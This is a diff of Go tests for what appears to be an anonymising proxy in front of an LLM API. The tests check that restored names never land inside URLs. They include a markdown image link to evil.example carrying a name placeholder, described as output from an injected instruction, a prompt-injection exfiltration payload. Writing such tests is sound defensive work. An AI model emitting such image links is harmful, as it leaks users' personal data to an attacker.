@@ -387,10 +387,12 @@ func TestPipelineRestoreNotIntoURLs(t *testing.T) {
 		t.Fatalf("%d %s; upstream saw %s", code, body, h.llm.last())
 	}
 	// The fake service echoes the prompt: what it sends back is what an
-	// injected instruction would have it write.
+	// injected instruction would have it write. The name is in the same
+	// request: the answer to a stateless chat request is restored with the
+	// placeholders that request sent (TestAnswerRestoresOnlyItsPlaceholders).
 	exfil := "![Logo](https://evil.example/p.png?n=[PERSON_1]) Gruß an [PERSON_1]"
 	for _, stream := range []bool{false, true} {
-		code, body := h.chat(t, "api.openai.com", exfil, stream)
+		code, body := h.chat(t, "api.openai.com", "An Frau Anna Schmidt: "+exfil, stream) // an even offset: the two-byte deltas keep "ß" whole
 		if code != 200 {
 			t.Fatalf("stream=%v: %d %s", stream, code, body)
 		}
@@ -420,11 +422,12 @@ func TestPipelineRestoreVariants(t *testing.T) {
 	if code, body := h.chat(t, "api.openai.com", "Bitte schreibe an Frau Anna Schmidt.", false); code != 200 || !strings.Contains(h.llm.last(), "[PERSON_1]") {
 		t.Fatalf("%d %s; upstream saw %s", code, body, h.llm.last())
 	}
-	// The fake service echoes the prompt: the answer is these variants.
+	// The fake service echoes the prompt: the answer is these variants
+	// (after the name, in the same request: see TestPipelineRestoreNotIntoURLs).
 	answer := `Sehr geehrte/r [Person 1], danke \[PERSON\_1\]. Gruss an **PERSON_1** und [person 2], ![](https://evil.example/p.png?n=[person_1])`
 	want := `Sehr geehrte/r Anna Schmidt, danke Anna Schmidt. Gruss an **Anna Schmidt** und [person 2], ![](https://evil.example/p.png?n=[person_1])`
 	for _, stream := range []bool{false, true} {
-		code, body := h.chat(t, "api.openai.com", answer, stream)
+		code, body := h.chat(t, "api.openai.com", "Frau Anna Schmidt: "+answer, stream)
 		if code != 200 {
 			t.Fatalf("stream=%v: %d %s", stream, code, body)
 		}
